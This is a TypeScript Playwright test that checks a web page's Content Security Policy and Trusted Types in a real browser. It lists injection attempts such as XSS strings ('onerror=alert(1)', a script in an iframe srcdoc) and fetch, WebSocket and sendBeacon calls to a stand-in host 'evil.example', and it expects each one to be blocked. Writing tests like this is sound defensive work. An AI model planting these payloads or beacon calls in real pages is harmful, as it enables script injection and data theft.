import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Browser, Page } from 'playwright-core';
import { GatewayProcess } from '../e2e/harness/gateway-process.ts';
import { launchChromium } from './harness/chromium.ts';

const EVIL = 'https://evil.example/';
/** Not the browser's policy but the page's own, which makes no address of a foreign script. */
const PAGE = 'the page';

let gateway: GatewayProcess;
let browser: Browser;
let page: Page;

beforeAll(async () => {
  gateway = await GatewayProcess.start();
  browser = await launchChromium();
  page = await browser.newPage();
  await page.addInitScript(() => {
    const reports: string[] = [];
    Object.assign(window, { reports });
    document.addEventListener('securitypolicyviolation', (event) => reports.push(event.effectiveDirective));
  });
  await page.goto(gateway.origin);
  await page.getByTestId('enter-room').waitFor();
});
afterAll(async () => {
  await browser.close();
  await gateway.stop();
});

const addElement = ([name, property, value]: [name: string, property: string, value: string]): void => {
  const element = document.createElement(name);
  Reflect.set(element, property, value);
  document.body.append(element);
  if (element instanceof HTMLFormElement) element.submit();
};

/** What somebody who runs code in the page would try next, as an element, one of its properties and a value. */
const ELEMENTS: readonly [directive: string, element: [string, string, string]][] = [
  [PAGE, ['script', 'src', `${EVIL}x.js`]],
  ['require-trusted-types-for', ['script', 'text', 'alert(1)']],
  ['require-trusted-types-for', ['p', 'innerHTML', '<img src=x onerror=alert(1)>']],
  ['require-trusted-types-for', ['iframe', 'srcdoc', '<script>alert(1)</script>']],
  ['style-src-elem', ['style', 'textContent', 'body { color: red }']],
  ['img-src', ['img', 'src', `${EVIL}pixel.gif`]],
  ['frame-src', ['iframe', 'src', EVIL]],
  ['base-uri', ['base', 'href', EVIL]],
  ['form-action', ['form', 'action', EVIL]],
  [PAGE, ['object', 'data', `${EVIL}x.swf`]],
];

/** And what needs no element. */
const CALLS: readonly [directive: string, call: () => unknown][] = [
  ['connect-src', () => fetch('https://evil.example/').catch(() => undefined)],
  ['connect-src', () => void Reflect.construct(WebSocket, ['wss://evil.example/'])],
  ['connect-src', () => navigator.sendBeacon('https://evil.example/', 'x')],
  ['require-trusted-types-for', () => void Reflect.apply(setTimeout, window, ['alert(1)'])],
  [PAGE, () => void Reflect.construct(Worker, ['https://evil.example/w.js'])],
];

/** Waits for the next report of the policy, and gives the directive that it names; or tells that the page itself has refused. */
async function reportOf(attempt: () => Promise<unknown>): Promise<string> {
  await page.evaluate(() => ((window as unknown as { reports: string[] }).reports.length = 0));
  const refused = await attempt().then(
    () => false,
    (error: unknown) => String(error).includes('starts no foreign script'),
  );
  if (refused) return PAGE;
  const report = await page.waitForFunction(() => (window as unknown as { reports: string[] }).reports[0]);
  return String(await report.jsonValue());
}

describe('S13: the policy in a real browser', () => {
  it.each(ELEMENTS)('%s stops %j', async (directive, element) => {
    expect(await reportOf(() => page.evaluate(addElement, element))).toBe(directive);
  });

  it.each(CALLS)('%s stops %s', async (directive, call) => {
    expect(await reportOf(() => page.evaluate(call))).toBe(directive);
  });

  it('has let nothing of it happen', async () => {
    expect(new URL(page.url()).origin).toBe(gateway.origin);
    expect(await page.evaluate(() => getComputedStyle(document.body).color)).not.toBe('rgb(255, 0, 0)');
  });
});
